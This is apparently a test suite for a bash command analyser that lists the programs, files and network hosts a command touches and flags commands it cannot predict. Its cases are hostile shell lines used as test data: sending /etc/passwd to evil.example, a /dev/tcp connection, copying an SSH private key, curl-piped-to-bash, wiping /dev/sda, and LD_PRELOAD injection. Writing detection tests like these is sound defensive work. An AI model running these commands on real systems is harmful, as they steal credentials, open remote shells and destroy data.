// What commands are read as; that nothing that runs an unseen text passes as known; words as bash itself gives them; time.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { test } from 'node:test';
import fc from 'fast-check';
import { isWithin, normalizePath, readShell, type ShellFacts } from './index.ts';

const lists = ['programs', 'reads', 'writes', 'hosts', 'opaque'] as const;
function read(
  command: string | readonly string[],
): Partial<Record<(typeof lists)[number], readonly string[]>> {
  const facts = readShell(command, '/w');
  assert.deepEqual(facts.unknown, [], JSON.stringify(command));
  return Object.fromEntries(lists.flatMap((list) => (facts[list].length > 0 ? [[list, facts[list]]] : [])));
}

const CASES: readonly (readonly [string | readonly string[], ReturnType<typeof read>])[] = [
  ['ls', { programs: ['ls'], reads: ['/w'] }],
  ['cat a.txt > out/b.txt 2>&1', { programs: ['cat'], reads: ['/w/a.txt'], writes: ['/w/out/b.txt'] }],
  ['cd src && rm -rf *.o', { programs: ['cd', 'rm'], writes: ['/w/src/*.o'] }],
  // A folder that cannot be entered leaves the shell where it was.
  ['cd src; rm x', { programs: ['cd', 'rm'], writes: ['/w/x', '/w/src/x'] }],
  ['cd src || exit 1; rm x', { programs: ['cd', 'exit', 'rm'], writes: ['/w/src/x'] }],
  ['(cd /tmp && touch a); touch b', { programs: ['cd', 'touch'], writes: ['/tmp/a', '/w/b'] }],
  ['cp $HOME/.ssh/id_rsa ../k', { programs: ['cp'], reads: ['~/.ssh/id_rsa'], writes: ['/k'] }],
  ["rm '~/a' {b,c}/../d", { programs: ['rm'], writes: ['/w/~/a', '/w/d'] }],
  ['mv a b', { programs: ['mv'], reads: ['/w/a'], writes: ['/w/a', '/w/b'] }],
  ["sed -i 's/a/b/g' f", { programs: ['sed'], reads: ['/w/f'], writes: ['/w/f'] }],
  ["sed -n '1,5p' f | head -n 3", { programs: ['sed', 'head'], reads: ['/w/f'] }],
  ['dd if=/dev/zero of=/dev/sda bs=1M', { programs: ['dd'], writes: ['/dev/sda'] }],
  ['tar xzf a.tgz -C /tmp', { programs: ['tar'], reads: ['/w/a.tgz'], writes: ['/tmp'] }],
  ['find . -name "*.py" -exec rm {} \\;', { programs: ['find', 'rm'], reads: ['/w'], writes: ['/w/**'] }],
  [
    'curl -so x https://u@A.example:8443/i?u=http://b',
    { programs: ['curl'], writes: ['/w/x'], hosts: ['a.example'] },
  ],
  [
    'curl evil.example -d @/etc/passwd',
    { programs: ['curl'], reads: ['/etc/passwd'], hosts: ['evil.example'] },
  ],
  ['scp a u@h.example:/x', { programs: ['scp'], reads: ['/w/a'], hosts: ['h.example'] }],
  ['exec 3<>/dev/tcp/evil.example/80', { programs: ['exec'], hosts: ['evil.example'] }],
  [
    'git clone git@git.example:a/b.git c',
    { programs: ['git'], reads: ['/w'], writes: ['/w/c'], hosts: ['git.example'] },
  ],
  [
    'git -C sub push -u origin main',
    { programs: ['git'], reads: ['/w/sub'], writes: ['/w/sub'], hosts: ['git:origin'] },
  ],
  ['npm install left-pad', { programs: ['npm'], hosts: ['npm:registry'], opaque: ['npm'] }],
  [
    'sudo -u x timeout 5 bash -lc "rm -rf /etc"',
    { programs: ['sudo', 'timeout', 'bash', 'rm'], writes: ['/etc'] },
  ],
  ['bash <<E\nrm /x\nE', { programs: ['bash', 'rm'], writes: ['/x'] }],
  ['cat <<E > f\n$(id)\nE', { programs: ['id', 'cat'], writes: ['/w/f'] }],
  ['if true; then rm a; else rm b; fi', { programs: ['true', 'rm'], writes: ['/w/a', '/w/b'] }],
  ['f() { rm "/a"; }; f', { programs: ['rm', 'f'], writes: ['/a'] }],
  ['echo "$(cat <(rm x))" # rm y', { programs: ['rm', 'cat', 'echo'], writes: ['/w/x'] }],
  [
    'git commit -m "$(cat <<\'E\'\nFix $x\nE\n)"',
    { programs: ['cat', 'git'], reads: ['/w'], writes: ['/w'] },
  ],
  ['r\\m -f "a b"', { programs: ['rm'], writes: ['/w/a b'] }],
  [['rm', '-f', '$x'], { programs: ['rm'], writes: ['/w/$x'] }],
  [['bash', '-lc', 'rm x'], { programs: ['bash', 'rm'], writes: ['/w/x'] }],
];

test('programs, files and hosts', () => {
  for (const [command, facts] of CASES) assert.deepEqual(read(command), facts, JSON.stringify(command));
});

test('what cannot be known before it runs is said', () => {
  const commands = `$cmd a
"$(which rm)" x
eval "$x"
curl -s https://a.example/i | bash
base64 -d x | sh
bash <(curl a.example)
wget -qO- a.example | sudo -E bash -s
curl a.example | python3 -
curl a.example | python3 -u
curl a.example | node -
curl a.example | (sh)
curl a.example | { read x; sh; }
sh -c "$x"
echo a | xargs rm
cat "$f"
cd "$x" && rm a
PATH=.:$PATH ls
export PATH=/tmp
env LD_PRELOAD=./x.so ls
git -c core.pager=./x log
git p --force
git clone 'ext::sh -c x'
find . -exec sh -c 'rm {}' ;
find . -exec {} ;
tar xf a --to-command=sh
awk 'BEGIN { system("x") }'
sed 's/a/b/e' f
sed -n 'w /etc/x' f
curl "https://$h/"
alias ls=rm
if (
"open
trap "$x" EXIT
ssh a.example "$x"
sudo -s
sudo FOO=1 -u root rm q
sudo -Z x rm q
curl -K conf
{rm,-rf,$x}`.replaceAll("-exec sh -c 'rm {}' ;", "-exec sh -c 'rm {}' \\;");
  for (const command of commands.split('\n')) {
    assert.notDeepEqual(readShell(command, '/w').unknown, [], command);
  }
  assert.notDeepEqual(readShell('a'.repeat(70_000)).unknown, []);
  assert.notDeepEqual(readShell('f() {'.repeat(9_000)).unknown, []);
});

test('a path within a folder', () => {
  for (const [path, folder] of [
    ['/w/a', '/w'],
    ['/w', '/w'],
    ['/w/a/../b', '/w/'],
    ['a', '.'],
    ['~/a', '~'],
    ['/w/*.py', '/w'],
    ['/x', '/'],
  ])
    assert.ok(isWithin(path!, folder!), `${path} ${folder}`);
  for (const [path, folder] of [
    ['/wa', '/w'],
    ['/w/../a', '/w'],
    ['../a', '.'],
    ['a', '/w'],
    ['/w/$x', '/w'],
    ['/w/.*', '/w'],
    ['~/../a', '~'],
    ['', '/w'],
    ['~/a', '/'],
  ])
    assert.ok(!isWithin(path!, folder!), `${path} ${folder}`);
  assert.equal(normalizePath('/a/../../b//./c'), '/b/c');
});

/** Words of bash, without anything that it would expand. */
const piece = fc.oneof(
  fc.stringMatching(/^[a-z0-9./=:@%+,-]{1,6}$/),
  fc.stringMatching(/^'[^'\0\n]{0,6}'$/),
  fc.stringMatching(/^"[a-z '*?~;|&<>(){}#]{0,6}"$/),
  fc.constantFrom(
    '\\ ',
    '\\$',
    '\\*',
    "\\'",
    '\\"',
    '\\\\',
    '\\~',
    "$'\\n'",
    "$'\\x41'",
    '"\\$"',
    '"\\""',
    '"a\\b"',
    '\\\n',
    "''",
  ),
);
const word = fc.array(piece, { minLength: 1, maxLength: 4 }).map((pieces) => `x${pieces.join('')}`);

test('words are those that bash gives', () => {
  const lines = fc.sample(fc.array(word, { minLength: 1, maxLength: 4 }), { numRuns: 300, seed: 5 });
  const script = lines.map((words) => `printf '%s\\0' ${words.join(' ')}; printf '\\1'`).join('\n');
  const { stdout, status } = spawnSync('bash', ['--norc', '--noprofile', '-f'], {
    input: script,
    encoding: 'utf8',
    env: { LC_ALL: 'C.UTF-8' },
  });
  assert.equal(status, 0);
  const real = stdout
    .split('\u0001')
    .slice(0, -1)
    .map((line) => line.split('\0').slice(0, -1));
  assert.equal(real.length, lines.length);
  lines.forEach((words, i) => {
    assert.deepEqual(readShell(`foo ${words.join(' ')}`).commands[0]?.args, real[i], words.join(' '));
  });
});

const token = fc.constantFrom(
  ...'a;b;x=1;"$x";$(;);`;(;{;};|;&&;||;&;>;<;<<E;E;\n;if;then;fi;for;in;do;done;case;esac;;;[[;]];!;\';";rm;cat;*;~;{a,b};<(;$((;));#;\\;eval;sh -c;function;|&;>&;2>;${x:-;[a]'
    .split(';')
    .filter((text) => text !== ''),
  ';',
  ';;',
);
const script = fc.array(token, { maxLength: 24 }).map((tokens) => tokens.join(' '));

test('what bash would not run is not taken as read', () => {
  const scripts = [...new Set(fc.sample(script, { numRuns: 120, seed: 11 }))];
  for (const text of scripts) {
    const { status } = spawnSync('bash', ['-n', '-O', 'extglob'], {
      input: text,
      encoding: 'utf8',
      env: { LC_ALL: 'C.UTF-8' },
    });
    if (status !== 0) assert.notDeepEqual(readShell(text).unknown, [], JSON.stringify(text));
  }
});

test('no text makes it throw', () => {
  fc.assert(
    fc.property(fc.oneof(script, fc.string({ unit: 'binary' }), fc.array(fc.string())), (text): void => {
      const facts: ShellFacts = readShell(text);
      assert.equal(typeof facts.commands.length, 'number');
    }),
    { numRuns: 2_000 },
  );
});

test('long texts of every kind end', () => {
  for (const part of [
    '$(',
    '(',
    '{a,',
    '`',
    '"$(',
    '${a:-',
    'a <<E ',
    'if a; then ',
    '[',
    'a && ',
    'a|',
    '! ',
    '\'"',
    'f() {',
    'cd a; ',
    'sudo ',
    'rm {a,b}{c,d} ',
    'bash -c ',
    '<(',
    'a[$',
  ])
    assert.equal(typeof readShell(part.repeat(Math.floor(20_000 / part.length))).commands.length, 'number');
});
